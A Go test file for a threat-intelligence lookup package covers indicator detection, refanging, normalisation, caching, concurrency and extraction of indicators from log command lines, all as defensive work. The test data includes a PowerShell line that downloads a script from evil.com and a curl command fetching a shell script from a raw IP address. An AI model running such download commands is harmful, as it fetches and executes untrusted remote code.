package ti

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/quarry-sec/quarry/engine/frame"
)

// fakeProvider answers from a function after a delay, counting calls.
type fakeProvider struct {
	name  string
	types []string
	delay time.Duration
	calls atomic.Int64
	inFly atomic.Int64
	peak  atomic.Int64
	fn    func(ioc, typ string) Result
}

func (f *fakeProvider) Name() string    { return f.name }
func (f *fakeProvider) Types() []string { return f.types }
func (f *fakeProvider) Lookup(ctx context.Context, ioc, typ string) Result {
	f.calls.Add(1)
	n := f.inFly.Add(1)
	defer f.inFly.Add(-1)
	for {
		p := f.peak.Load()
		if n <= p || f.peak.CompareAndSwap(p, n) {
			break
		}
	}
	if f.delay > 0 {
		select {
		case <-time.After(f.delay):
		case <-ctx.Done():
			return NewResult(f.name, ioc, typ).Fail("%v", ctx.Err())
		}
	}
	if f.fn != nil {
		return f.fn(ioc, typ)
	}
	r := NewResult(f.name, ioc, typ)
	r.Found, r.Severity = true, SevWarning
	r.Details = map[string]any{"n": 1}
	r.Raw = json.RawMessage(`{"ok":true}`)
	return r
}

// memCache is an in-memory Cache.
type memCache struct {
	mu   sync.Mutex
	m    map[string][]byte
	ttls map[string]time.Duration
}

func newMemCache() *memCache {
	return &memCache{m: map[string][]byte{}, ttls: map[string]time.Duration{}}
}

func (c *memCache) Get(p, t, i string) ([]byte, bool) {
	c.mu.Lock()
	defer c.mu.Unlock()
	b, ok := c.m[p+"\x00"+t+"\x00"+i]
	return b, ok
}

func (c *memCache) Put(p, t, i string, v []byte, ttl time.Duration) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.m[p+"\x00"+t+"\x00"+i] = v
	c.ttls[p] = ttl
	return nil
}

func TestDetect(t *testing.T) {
	cases := []struct{ in, typ, clean string }{
		{"8.8.8.8", "ipv4", "8.8.8.8"},
		{" 8.8.8.8 ", "ipv4", "8.8.8.8"},
		{"2001:4860:4860::8888", "ipv6", "2001:4860:4860::8888"},
		{"hxxp://evil[.]com/a", "url", "http://evil.com/a"},
		{"evil[.]com", "dns", "evil.com"},
		{"www.google.com", "dns", "www.google.com"},
		{"d41d8cd98f00b204e9800998ecf8427e", "md5_hash", "d41d8cd98f00b204e9800998ecf8427e"},
		{strings.Repeat("ab", 20), "sha1_hash", strings.Repeat("ab", 20)},
		{strings.Repeat("0f", 32), "sha256_hash", strings.Repeat("0f", 32)},
		{"bob@example.com", "email", "bob@example.com"},
		{"just words", "", ""},
		{"", "", ""},
		{"8.8.8.8 and more", "", ""},
	}
	for _, c := range cases {
		typ, clean := Detect(c.in)
		if typ != c.typ || clean != c.clean {
			t.Errorf("Detect(%q) = %q, %q; want %q, %q", c.in, typ, clean, c.typ, c.clean)
		}
	}
}

func TestNormalize(t *testing.T) {
	cases := []struct {
		in, typ, want string
		bad           string
	}{
		{"8.8.8.8", "ipv4", "8.8.8.8", ""},
		{"10.1.2.3", "ipv4", "", "not a public address"},
		{"127.0.0.1", "ipv4", "", "not a public address"},
		{"8.8.8.8", "ipv6", "", "not an ipv6 address"},
		{"::ffff:8.8.8.8", "ipv4", "8.8.8.8", ""},
		{"fe80::1", "ipv6", "", "not a public address"},
		{"nonsense", "ipv4", "", "not an IP address"},
		{"http://evil.com/x", "url", "http://evil.com/x", ""},
		{"hxxp://evil[.]com/x", "url", "http://evil.com/x", ""},
		{"evil.com/x", "url", "", "scheme and a host"},
		{"file://server.example/share", "url", "", "file://"},
		{"http://192.168.1.1/a", "url", "", "not a public address"},
		{"http://intranet/a", "url", "", "no domain"},
		{"EVIL.com.", "dns", "evil.com", ""},
		{"localhost", "dns", "", "no dot"},
		{"1.2.3.4", "dns", "", "an address, not a domain"},
		{"D41D8CD98F00B204E9800998ECF8427E", "md5_hash", "d41d8cd98f00b204e9800998ecf8427e", ""},
		{strings.Repeat("0", 32), "md5_hash", "", "too little entropy"},
		{strings.Repeat("a1", 16), "md5_hash", "", "too little entropy"}, // 1 bit a character
		{"abc", "md5_hash", "", "32-digit hex"},
		{"who knows", "", "", "not a recognised indicator"},
	}
	for _, c := range cases {
		got, err := Normalize(c.in, c.typ)
		if c.bad != "" {
			if err == nil || !errors.Is(err, ErrBadIoC) || !strings.Contains(err.Error(), c.bad) {
				t.Errorf("Normalize(%q, %s) = %q, %v; want an error with %q", c.in, c.typ, got, err, c.bad)
			}
			continue
		}
		if err != nil || got != c.want {
			t.Errorf("Normalize(%q, %s) = %q, %v; want %q", c.in, c.typ, got, err, c.want)
		}
	}
}

func TestEntropy(t *testing.T) {
	// Four equally likely symbols carry exactly 2 bits; sixteen carry 4.
	if e := entropy("abcdabcd"); e != 2 {
		t.Errorf("entropy = %v, want 2", e)
	}
	if e := entropy("0123456789abcdef"); e != 4 {
		t.Errorf("entropy = %v, want 4", e)
	}
}

func TestPrepare(t *testing.T) {
	vt := &fakeProvider{name: "vt", types: []string{"ipv4", "dns", "md5_hash"}}
	gn := &fakeProvider{name: "gn", types: []string{"ipv4"}}
	e := &Engine{Providers: []Provider{vt, gn}}
	p := e.Prepare([]Query{
		{Ioc: "8.8.8.8"}, {Ioc: "8.8.8.8"}, {Ioc: "8.8.8.8", Type: "ipv4"}, // one distinct
		{Ioc: "evil[.]com"}, {Ioc: "evil.com"}, // refanged to the same
		{Ioc: "10.0.0.1"}, {Ioc: "10.0.0.1"}, // bad once
		{Ioc: "bob@example.com"}, // no provider takes email: planned, asked by nobody
	})
	if len(p.Queries) != 3 {
		t.Fatalf("queries = %v, want 3 distinct", p.Queries)
	}
	if len(p.Bad) != 1 || p.Bad[0].Provider != Checker || p.Bad[0].Status != StatusBadFormat ||
		!strings.Contains(p.Bad[0].Reason, "not a public address") {
		t.Fatalf("bad = %+v", p.Bad)
	}
	if p.Per["vt"] != 2 || p.Per["gn"] != 1 {
		t.Fatalf("per = %v, want vt 2, gn 1", p.Per)
	}
}

func TestRunStreamsAllProvidersAtOnce(t *testing.T) {
	slow := &fakeProvider{name: "slow", types: []string{"ipv4"}, delay: 300 * time.Millisecond}
	fast := &fakeProvider{name: "fast", types: []string{"ipv4"}, delay: time.Millisecond}
	e := &Engine{Providers: []Provider{slow, fast}, Workers: map[string]int{"slow": 2, "fast": 2}}
	var qs []Query
	for i := range 10 {
		qs = append(qs, Query{Ioc: fmt.Sprintf("8.8.8.%d", i+1)})
	}
	start := time.Now()
	var fastDone time.Duration
	counts := map[string]int{}
	err := e.LookupMany(context.Background(), qs, func(r Result) {
		counts[r.Provider]++
		if r.Provider == "fast" && counts["fast"] == 10 {
			fastDone = time.Since(start)
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	if counts["slow"] != 10 || counts["fast"] != 10 {
		t.Fatalf("counts = %v", counts)
	}
	// The fast provider's ten results arrive long before the slow one's first
	// batch ends: a slow provider does not hold the others up.
	if fastDone > 250*time.Millisecond {
		t.Errorf("fast provider finished after %v; it waited for the slow one", fastDone)
	}
	if p := slow.peak.Load(); p != 2 {
		t.Errorf("slow provider peak in flight = %d, want its 2 workers", p)
	}
}

func TestRunCache(t *testing.T) {
	p := &fakeProvider{name: "vt", types: []string{"ipv4"}}
	nf := &fakeProvider{name: "nf", types: []string{"ipv4"}, fn: func(ioc, typ string) Result {
		return NewResult("nf", ioc, typ).NotFound("")
	}}
	bad := &fakeProvider{name: "err", types: []string{"ipv4"}, fn: func(ioc, typ string) Result {
		return NewResult("err", ioc, typ).Fail("boom")
	}}
	c := newMemCache()
	e := &Engine{Providers: []Provider{p, nf, bad}, Cache: c, TTL: map[string]time.Duration{"vt": time.Hour}}
	for range 3 {
		rs := e.Lookup(context.Background(), "8.8.8.8", "")
		if len(rs) != 3 {
			t.Fatalf("results = %+v", rs)
		}
	}
	if p.calls.Load() != 1 || nf.calls.Load() != 1 {
		t.Errorf("calls vt=%d nf=%d; want 1 each (answers and not-founds are cached)", p.calls.Load(), nf.calls.Load())
	}
	if bad.calls.Load() != 3 {
		t.Errorf("error provider calls = %d; errors must not be cached", bad.calls.Load())
	}
	rs := e.Lookup(context.Background(), "8.8.8.8", "")
	if !rs[0].Cached || rs[0].Provider != "vt" || string(rs[0].Raw) != `{"ok":true}` || rs[0].Severity != SevWarning {
		t.Errorf("cached result = %+v", rs[0])
	}
	if c.ttls["vt"] != time.Hour || c.ttls["nf"] != DefaultTTL {
		t.Errorf("ttls = %v", c.ttls)
	}
}

func TestRunCancel(t *testing.T) {
	p := &fakeProvider{name: "slow", types: []string{"ipv4"}, delay: time.Hour}
	e := &Engine{Providers: []Provider{p}}
	ctx, cancel := context.WithCancel(context.Background())
	time.AfterFunc(50*time.Millisecond, cancel)
	done := make(chan error)
	go func() {
		done <- e.LookupMany(ctx, []Query{{Ioc: "8.8.8.8"}, {Ioc: "8.8.4.4"}}, func(Result) {})
	}()
	select {
	case err := <-done:
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("err = %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("cancel did not stop the look-up")
	}
}

type panicky struct{}

func (panicky) Name() string                                  { return "panicky" }
func (panicky) Types() []string                               { return []string{"ipv4"} }
func (panicky) Lookup(context.Context, string, string) Result { panic("boom") }

func TestRunProviderPanic(t *testing.T) {
	ok := &fakeProvider{name: "ok", types: []string{"ipv4"}}
	e := &Engine{Providers: []Provider{panicky{}, ok}}
	rs := e.Lookup(context.Background(), "8.8.8.8", "")
	if len(rs) != 2 || rs[0].Status != StatusError || !strings.Contains(rs[0].Reason, "panicky") || rs[1].Status != StatusOK {
		t.Fatalf("results = %+v", rs)
	}
}

func TestShowUnsupported(t *testing.T) {
	gn := &fakeProvider{name: "gn", types: []string{"ipv4"}}
	e := &Engine{Providers: []Provider{gn}, ShowUnsupported: true}
	rs := e.Lookup(context.Background(), "evil.com", "")
	if len(rs) != 1 || rs[0].Status != StatusUnsupported || gn.calls.Load() != 0 {
		t.Fatalf("results = %+v", rs)
	}
	e.ShowUnsupported = false
	if rs := e.Lookup(context.Background(), "evil.com", ""); len(rs) != 0 {
		t.Fatalf("results = %+v, want none", rs)
	}
}

func TestEncodeResultRoundTrip(t *testing.T) {
	r := NewResult("vt", "8.8.8.8", "ipv4")
	r.Found, r.Severity, r.Status = true, SevHigh, StatusOK
	r.Details = map[string]any{"malicious": float64(3), "names": []any{"a"}}
	r.Raw = json.RawMessage(`{"data":{"id":"8.8.8.8"}}`)
	r.Reference = "https://www.virustotal.com/gui/ip-address/8.8.8.8"
	b, err := EncodeResult(r)
	if err != nil {
		t.Fatal(err)
	}
	got, err := DecodeResult(b)
	if err != nil {
		t.Fatal(err)
	}
	a, _ := json.Marshal(r)
	g, _ := json.Marshal(got)
	if string(a) != string(g) {
		t.Fatalf("round trip:\n%s\n%s", a, g)
	}
	for _, bad := range [][]byte{nil, {0xff}, {5, '{'}} {
		if _, err := DecodeResult(bad); err == nil {
			t.Errorf("DecodeResult(%v) accepted", bad)
		}
	}
}

func BenchmarkCachedLookup(b *testing.B) {
	p := &fakeProvider{name: "vt", types: []string{"ipv4"}, fn: func(ioc, typ string) Result {
		r := NewResult("vt", ioc, typ)
		r.Found, r.Severity = true, SevHigh
		r.Details = map[string]any{"malicious": 3, "suspicious": 0, "as_owner": "Example", "country": "GB"}
		r.Raw = json.RawMessage(`{"data":{"attributes":{"last_analysis_stats":{"malicious":3}}}}`)
		return r
	}}
	e := &Engine{Providers: []Provider{p}, Cache: newMemCache()}
	var qs []Query
	for i := range 1000 {
		qs = append(qs, Query{Ioc: fmt.Sprintf("8.8.%d.%d", i/250+1, i%250+1), Type: "ipv4"})
	}
	plan := e.Prepare(qs)
	_ = e.Run(context.Background(), plan, func(Result) {})
	b.ResetTimer()
	n := 0
	for b.Loop() {
		_ = e.Run(context.Background(), plan, func(r Result) {
			if !r.Cached {
				b.Fatal("not cached")
			}
			n++
		})
	}
	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "lookups/s")
}

func TestIndicators(t *testing.T) {
	got := Indicators(`powershell -c "iwr hxxp://evil[.]com/a.ps1; nslookup 8.8.8.8; iwr http://evil.com/a.ps1"`)
	want := []Query{{"http://evil.com/a.ps1", "url"}, {"evil.com", "dns"}, {"8.8.8.8", "ipv4"}}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("Indicators = %v, want %v", got, want)
	}
	if got := Indicators(" 1.2.3.4 "); len(got) != 1 || got[0] != (Query{"1.2.3.4", "ipv4"}) {
		t.Errorf("Indicators(one) = %v", got)
	}
	if got := Indicators("nothing to see"); len(got) != 0 {
		t.Errorf("Indicators(none) = %v", got)
	}
}

func TestFrameQueries(t *testing.T) {
	f, err := frame.FromRecords([]string{"Host", "CommandLine", "Src"}, [][]string{
		{"WIN1", "curl http://185.220.101.1/x.sh", "8.8.8.8"},
		{"WIN2", "notepad.exe", ""},
		{"WIN3", "ping 1.1.1.1", "8.8.4.4"},
	})
	if err != nil {
		t.Fatal(err)
	}
	qs, err := FrameQueries(f, "CommandLine", "")
	if err != nil {
		t.Fatal(err)
	}
	want := []Query{{"http://185.220.101.1/x.sh", "url"}, {"185.220.101.1", "ipv4"}, {"1.1.1.1", "ipv4"}}
	if fmt.Sprint(qs) != fmt.Sprint(want) {
		t.Errorf("CommandLine: %v, want %v", qs, want)
	}
	qs, _ = FrameQueries(f, "Src", "ipv4")
	if fmt.Sprint(qs) != fmt.Sprint([]Query{{"8.8.8.8", "ipv4"}, {"8.8.4.4", "ipv4"}}) {
		t.Errorf("Src: %v", qs)
	}
	if _, err := FrameQueries(f, "Nope", ""); err == nil || !strings.Contains(err.Error(), "CommandLine") {
		t.Errorf("missing column: %v", err)
	}
}
